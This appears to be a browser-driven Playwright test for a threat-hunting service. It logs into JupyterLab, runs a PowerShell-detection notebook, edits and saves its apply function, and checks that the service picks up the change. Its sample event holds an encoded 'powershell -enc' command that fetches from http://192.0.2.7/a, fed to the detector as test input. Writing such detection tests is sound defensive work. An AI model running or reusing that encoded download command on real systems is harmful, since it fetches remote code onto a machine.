"""A hunter in a real browser: log in, run the flagship notebook, change it, save; the search shows it."""

import contextlib
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from tests.container.live.containers import Container
from tests.encoding import b64
from tests.jupyter.running_jupyter import PASSWORD, RunningJupyter
from tests.running_service import ROOT, wait_until

CHROMIUM = Path("/usr/bin/chromium")
PICTURE = ROOT / "build" / "image-test" / "jupyterlab.png"
# It asks nothing of the network, and runs as root only here.
_FLAGS = [
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-gpu",
    "--disable-quic",
    "--disable-sync",
    "--no-first-run",
    *(["--no-sandbox"] if os.geteuid() == 0 else []),
]
_CHANGE = """

shipped_apply = apply


def apply(model, df, param):
    return shipped_apply(model, df, param).assign(hunter="was here")
"""

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium")


@pytest.fixture
def page() -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=_FLAGS)
        context = browser.new_context(
            ignore_https_errors=True, viewport={"width": 1360, "height": 900}
        )
        context.set_default_timeout(60_000)
        yield context.new_page()
        browser.close()


def test_changed_flagship_is_what_the_next_apply_uses(
    hunt: Container, jupyter: RunningJupyter, page: Page
) -> None:
    events = f"ParentCommandLine\npowershell -enc {b64('iwr http://192.0.2.7/a')}\n"
    assert hunt.fit(events, "powershell_ioc", "browsed")["status"] == "success"
    _open(page, jupyter.url, "powershell_ioc.ipynb")
    _run_all(page)
    _take_picture(page)
    _append(page, "def apply(model, df, param):", _CHANGE)
    page.keyboard.press("Control+s")
    module = hunt.srv / "app" / "model" / "powershell_ioc.py"
    wait_until(lambda: "was here" in module.read_text())
    answer = hunt.apply(events, "powershell_ioc", "browsed")
    assert answer["status"] == "success", answer
    header, row = answer["results"].splitlines()[:2]
    assert header.endswith(",hunter")
    assert "http://192.0.2.7/a" in row
    assert row.endswith(",was here")


def _open(page: Page, url: str, notebook: str) -> None:
    page.goto(f"{url}/login?next=/lab/tree/{notebook}")
    page.locator("input[name=password]").fill(PASSWORD)
    page.keyboard.press("Enter")
    expect(page.locator(".jp-Notebook .jp-CodeCell").first).to_be_visible(timeout=60_000)
    expect(page.locator(".jp-Notebook-ExecutionIndicator[data-status=idle]")).to_be_visible(
        timeout=60_000
    )


def _run_all(page: Page) -> None:
    """JupyterLab drops a run while it connects to the kernel, whatever it shows: run until it runs."""
    result = page.locator(".jp-OutputArea-executeResult").last
    for _ in range(5):
        page.get_by_role("menuitem", name="Run", exact=True).click()
        page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
        with contextlib.suppress(AssertionError):
            expect(result).to_contain_text("Decodes command lines", timeout=15_000)
            break
    expect(result).to_contain_text("Decodes command lines")
    expect(page.locator(".jp-OutputArea-output[data-mime-type*=error]")).to_have_count(0)


def _take_picture(page: Page) -> None:
    """For docs/deployment.md: the cell of apply, and the table that it makes."""
    PICTURE.parent.mkdir(parents=True, exist_ok=True)
    cell = page.locator(".jp-CodeCell", has_text="result[[").first
    cell.evaluate("cell => cell.scrollIntoView({block: 'start'})")
    page.wait_for_timeout(1000)  # cells come into being when they come into view
    page.screenshot(path=PICTURE)


def _append(page: Page, code: str, addition: str) -> None:
    """Type at the end of the cell that holds this code."""
    cell = page.locator(".jp-CodeCell", has_text=code).first
    cell.locator(".cm-content").click()
    page.keyboard.press("Control+End")
    page.keyboard.insert_text(addition)
